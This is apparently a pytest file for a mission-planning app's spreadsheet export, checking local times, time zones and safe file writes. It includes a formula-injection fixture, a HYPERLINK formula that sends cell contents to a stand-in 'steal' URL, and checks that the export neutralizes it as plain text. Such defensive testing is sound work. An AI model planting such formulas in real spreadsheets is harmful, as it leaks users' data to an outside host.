"""Meetings, participants and contacts as spreadsheets: local times, zones, no formulas."""

from __future__ import annotations

import csv
import io
import os
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from missionplanner.errors import MissionPlannerError, NotFoundError
from missionplanner.io.sheet_export import export_sheet, mission_table, neutralize
from missionplanner.io.sheets import read_sheet
from missionplanner.services.contact_import import import_contacts
from missionplanner.services.directory import get_organization, list_organizations
from missionplanner.services.transfer import import_data
from missionplanner.store.database import Database, open_database

EVIL_TITLE = '=HYPERLINK("http://example.com/steal?"&A1,"Open")'

MISSION = {
    "format": "missionplanner/1",
    "organizations": [
        {
            "id": "org-ruta-n",
            "name": "Ruta N",
            "kind": "innovation centre",
            "city": "Medellín",
            "country": "CO",
            "sectors": ["innovation", "software"],
            "contacts": [
                {
                    "id": "c-franco",
                    "name": "Alejandro Franco",
                    "title": "Executive Director",
                    "email": "afranco@rutanmedellin.org",
                    "phone": "+57 604 5167770",
                    "notes": "@mention in notes\nsecond line",
                },
                {"id": "c-sin", "name": "Sin Kit I", "title": "-Centre of Business"},
            ],
        },
        {"id": "org-sc", "name": "Start-Up Chile", "city": "Santiago", "country": "CL"},
        {"id": "org-unused", "name": "Not met", "city": "Cali", "country": "CO"},
    ],
    "missions": [
        {
            "id": "m-1",
            "title": "Chile and Colombia",
            "home_timezone": "America/New_York",
            "participants": [
                {"id": "p1", "name": "Cesar Vence", "role": "@lead", "phone": "+1 404 555 0142"},
                {"id": "p2", "name": "Dana Brooks", "role": "Analyst"},
            ],
            "stops": [
                {
                    "id": "s-scl",
                    "city": "Santiago",
                    "country": "CL",
                    "arrive": "2026-10-05",
                    "depart": "2026-10-07",
                },
                {
                    "id": "s-mde",
                    "city": "Medellín",
                    "country": "CO",
                    "arrive": "2026-10-08",
                    "depart": "2026-10-09",
                },
            ],
            "meetings": [
                {
                    "id": "mt-sc",
                    "title": EVIL_TITLE,
                    "stop": "s-scl",
                    "organizations": ["org-sc"],
                    "start": "2026-10-06T10:00",
                    "end": "2026-10-06T11:00",
                    "status": "confirmed",
                    "attendees": ["p1"],
                },
                {
                    "id": "mt-ruta",
                    "title": "Ruta N & ACI",
                    "stop": "s-mde",
                    "organizations": ["org-ruta-n"],
                    "contacts": ["c-franco"],
                    "start": "2026-10-08T09:00",
                    "end": "2026-10-08T10:30",
                    "notes": "+1 call back",
                },
                {
                    "id": "mt-off",
                    "title": "Cancelled lunch",
                    "stop": "s-mde",
                    "start": "2026-10-08T12:00",
                    "end": "2026-10-08T13:00",
                    "status": "cancelled",
                },
            ],
        }
    ],
}


@pytest.fixture
def mission(db: Database) -> Database:
    import_data(db, MISSION)
    return db


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel needs the BOM to show accents right
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def read_xlsx(path: Path) -> tuple[list[list[Any]], Any]:
    sheet = load_workbook(path).active
    assert sheet is not None
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def test_neutralize() -> None:
    for text in ("=1+1", "+57 300", "-2", "@SUM(A1)", "\tx", "\rx", "  =1+1"):
        assert neutralize(text) == "'" + text
    for text in ("Ruta N", "a=b", "", "57-300", "'quoted"):
        assert neutralize(text) == text


def test_meetings_csv_has_local_times_zones_and_no_formulas(
    mission: Database, tmp_path: Path
) -> None:
    path = tmp_path / "meetings.csv"
    assert export_sheet(mission, "m-1", "meetings", path) == 3
    header, *rows = read_csv(path)
    # The meeting's described fields in their order, the UTC offset after the zone.
    assert header[:6] == [
        "City",
        "Title",
        "Start (local)",
        "End (local)",
        "Time zone",
        "UTC offset",
    ]
    assert "Talking points" in header
    by_title = {row[header.index("Title")]: dict(zip(header, row, strict=True)) for row in rows}
    santiago = by_title["'" + EVIL_TITLE]  # neutralized: a spreadsheet shows it as text
    assert santiago["Start (local)"] == "2026-10-06 10:00"
    assert santiago["End (local)"] == "2026-10-06 11:00"
    assert santiago["Time zone"] == "America/Santiago"
    assert santiago["UTC offset"] == "UTC−03:00"
    assert santiago["Attendees"] == "Cesar Vence"
    medellin = by_title["Ruta N & ACI"]
    assert (medellin["Start (local)"], medellin["Time zone"]) == (
        "2026-10-08 09:00",
        "America/Bogota",
    )
    assert medellin["UTC offset"] == "UTC−05:00"
    assert medellin["Notes"] == "'+1 call back"
    assert medellin["Contacts"] == "Alejandro Franco"
    assert medellin["Attendees"] == "Whole delegation"
    assert by_title["Cancelled lunch"]["Status"] == "cancelled"
    dangerous = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t")]
    assert dangerous == []


def test_meetings_xlsx_keeps_text_as_text(mission: Database, tmp_path: Path) -> None:
    path = tmp_path / "meetings.xlsx"
    export_sheet(mission, "m-1", "meetings", path)
    rows, sheet = read_xlsx(path)
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert first["Start (local)"] == datetime(2026, 10, 6, 10, 0)  # a real date, sortable
    assert first["Time zone"] == "America/Santiago"
    title = sheet.cell(row=2, column=header.index("Title") + 1)
    # The text as written, stored as text with Excel's apostrophe (quote prefix): never run.
    assert title.value == EVIL_TITLE
    assert title.data_type == "s"
    assert title.quotePrefix
    assert not sheet.cell(row=2, column=header.index("City") + 1).quotePrefix
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_participants(mission: Database, tmp_path: Path) -> None:
    path = tmp_path / "people.xlsx"
    export_sheet(mission, "m-1", "participants", path)
    rows, sheet = read_xlsx(path)
    assert rows[0] == ["Name", "Role", "Organization", "Email", "Phone", "Meetings"]
    # Cesar attends the Santiago meeting and the whole-delegation one; not the cancelled.
    assert rows[1][0] == "Cesar Vence" and rows[1][5] == 2
    assert rows[2][0] == "Dana Brooks" and rows[2][5] == 1
    assert rows[1][1] == "@lead" and sheet.cell(row=2, column=2).quotePrefix
    csv_path = tmp_path / "people.csv"
    export_sheet(mission, "m-1", "participants", csv_path)
    assert read_csv(csv_path)[1][1:5] == ["'@lead", "", "", "'+1 404-555-0142"]


def test_contacts_of_the_organizations_met(mission: Database, tmp_path: Path) -> None:
    table = mission_table(mission, "m-1", "contacts")
    assert [(row[0], row[6]) for row in table.rows] == [
        ("Ruta N", "Alejandro Franco"),
        ("Ruta N", "Sin Kit I"),
        ("Start-Up Chile", ""),  # met, without contacts: a row of its own
    ]
    assert table.rows[0][5] == "innovation; software"
    assert table.rows[0][-1] == "Ruta N & ACI"


def test_exported_contacts_import_into_another_database(mission: Database, tmp_path: Path) -> None:
    for suffix in ("csv", "xlsx"):
        path = tmp_path / f"contacts.{suffix}"
        export_sheet(mission, "m-1", "contacts", path)
        with open_database(tmp_path / f"other-{suffix}.sqlite") as other:
            plan = import_contacts(other, read_sheet(path))
            assert not plan.rejected
            rows = {row.name: row for row in list_organizations(other)}
            assert set(rows) == {"Ruta N", "Start-Up Chile"}
            ruta_n = get_organization(other, rows["Ruta N"].id)
            assert (ruta_n.kind, ruta_n.city, ruta_n.country) == (
                "innovation centre",
                "Medellín",
                "CO",
            )
            assert ruta_n.sectors == ("innovation", "software")
            franco, sin = ruta_n.contacts
            assert franco.phone == "+57 604 5167770"  # the apostrophe is gone again
            assert franco.notes == "@mention in notes\nsecond line"
            assert sin.title == "-Centre of Business"


def test_a_failed_write_leaves_the_old_file(
    mission: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "meetings.xlsx"
    path.write_bytes(b"the previous export")

    def full_disk(_src: object, _dst: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", full_disk)
    with pytest.raises(MissionPlannerError, match="No space left on device"):
        export_sheet(mission, "m-1", "meetings", path)
    assert path.read_bytes() == b"the previous export"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_bad_requests_are_refused(mission: Database, tmp_path: Path) -> None:
    with pytest.raises(NotFoundError, match="no mission"):
        export_sheet(mission, "nope", "meetings", tmp_path / "x.csv")
    with pytest.raises(MissionPlannerError, match=r"ending in \.csv or \.xlsx"):
        export_sheet(mission, "m-1", "meetings", tmp_path / "x.pdf")
    with pytest.raises(MissionPlannerError, match="Cannot write"):
        export_sheet(mission, "m-1", "meetings", tmp_path / "missing" / "x.csv")
    assert not (tmp_path / "x.csv").exists()
